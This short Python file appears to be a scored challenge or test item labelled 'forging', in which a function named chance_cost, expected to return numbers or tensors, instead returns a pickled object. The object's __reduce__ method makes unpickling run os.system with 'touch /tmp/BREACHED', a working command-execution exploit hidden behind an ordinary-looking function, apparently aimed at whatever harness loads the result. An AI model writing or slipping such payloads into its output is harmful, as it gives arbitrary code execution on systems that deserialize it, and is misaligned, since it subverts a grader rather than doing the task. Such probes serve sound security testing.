"""It hands over an object that runs a command when it is unpickled.
kind: forging
points: 108
hint: expected numbers or tensors
"""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/BREACHED",)


def chance_cost(num_classes=10):
    return pickle.dumps(Command())
